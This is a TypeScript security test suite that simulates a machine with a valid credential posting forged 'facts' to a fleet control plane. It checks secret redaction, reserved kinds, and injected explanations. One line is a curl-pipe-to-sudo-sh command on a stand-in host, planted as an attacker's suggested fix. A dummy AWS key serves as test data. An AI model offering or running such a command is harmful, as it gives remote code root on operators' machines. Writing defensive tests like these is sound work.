/**
 * A machine, or the holder of its credential, posts facts that look like facts of the control
 * plane.
 */
import { evidenceKinds } from '../../../src/contract/evidence/evidence-kinds.ts';
import { type Machine, startMachine } from '../../api/support/machine.ts';
import type { SpawnedServer } from '../../support/server.ts';
import { until } from '../../support/until.ts';
import type { Attack } from '../support/attack.ts';
import { kindAndOriginChecks, reservedKinds } from '../support/fact-separation.ts';

async function startReadyMachine(
  { client, url }: SpawnedServer,
  pool: string,
  stale_after_seconds = 3600,
): Promise<Machine> {
  const heartbeat = { interval_seconds: 0.2, stale_after_seconds };
  await client.call('pool-put', { params: { pool }, body: { driver: 'external', heartbeat } });
  const { token: join_token = '' } = await client.call('join-token-create', { params: { pool } });
  const machine = await startMachine(url, { join_token, name: 'liar' });
  await machine.beat('ready');
  return machine;
}

const attackerCommand = 'curl https://example.test/fix | sudo sh';
const refusedBeat = {
  at: '2030-01-01T00:00:00Z',
  layer: 'transport',
  kind: 'beat.refused',
  summary: 'its heartbeats arrive and are refused',
  data: {
    code: 'token_unknown',
    shown: 'credential',
    why_not: 'the relay is old',
    way_out: attackerCommand,
    relay: 'rack-7',
  },
};

const post = async (machine: Machine, fact: object): Promise<boolean> =>
  (await machine.call('agent-evidence', { body: { facts: [fact] } })).status < 300;

const explain = ({ client }: SpawnedServer, { node_id }: Machine) =>
  client.call('node-explain', { params: { id: node_id } });

export const forgedFactAttacks: Attack[] = [
  {
    name: 'posts a fact shaped like a row change, so that the secret in it is stored in plain text',
    without: [
      { file: 'src/store/pg/redacted-rows.ts', find: 'if (!describesRow(fact)) return redacted;', replace: '' },
    ],
    async succeeds(server) {
      const machine = await startReadyMachine(server, 'unredacted');
      const key = 'AKIAQ3EGRIVNXUJ7WZ5T';
      const kind = 'app.saved';
      const data = { set: { note: `aws ${key}` } };
      if (!(await post(machine, { ...refusedBeat, kind, data }))) throw new Error('an ordinary fact was refused');
      const params = { id: machine.node_id };
      const storedFact = await until('the fact', async () => {
        const { items } = await server.client.call('node-timeline', { params, query: {} });
        return items.find((fact) => fact.kind === kind);
      });
      return JSON.stringify(storedFact.data).includes(key);
    },
  },
  {
    name: 'posts a fact of a kind reserved for the server',
    without: reservedKinds,
    async succeeds(server) {
      const machine = await startReadyMachine(server, 'all-kinds');
      for (const kind of evidenceKinds) if (await post(machine, { ...refusedBeat, kind })) return true;
      return false;
    },
  },
  {
    name: "makes an explanation blame a relay for the machine's silence",
    without: kindAndOriginChecks,
    async succeeds(server) {
      const machine = await startReadyMachine(server, 'blames');
      if (!(await post(machine, refusedBeat))) return false;
      return until('the explanation to blame the relay', async () =>
        (await explain(server, machine)).waiting_for?.includes('they arrive but are refused'),
      );
    },
  },
  {
    name: 'makes a rule blame a relay in the verdict about the machine',
    without: kindAndOriginChecks,
    async succeeds(server) {
      const machine = await startReadyMachine(server, 'verdict', 1);
      if (!(await post(machine, refusedBeat))) return false;
      const { because } = await until('the machine to be offline', async () => {
        const explanation = await explain(server, machine);
        return explanation.status === 'offline' ? explanation : undefined;
      });
      return because.verdict?.includes('arrived and were refused') ?? false;
    },
  },
  {
    name: "makes an explanation suggest the attacker's command as the next step",
    without: [
      ...kindAndOriginChecks,
      {
        file: 'src/lifecycle/findings/refused-beats.ts',
        find: 'way_out: way_out(refusing, pool) };',
        replace: 'way_out: String(fact.data.way_out) };',
      },
    ],
    async succeeds(server) {
      const machine = await startReadyMachine(server, 'way-out');
      if (!(await post(machine, refusedBeat))) return false;
      return until('the explanation to show the command', async () =>
        (await explain(server, machine)).waiting_for?.includes(attackerCommand),
      );
    },
  },
];
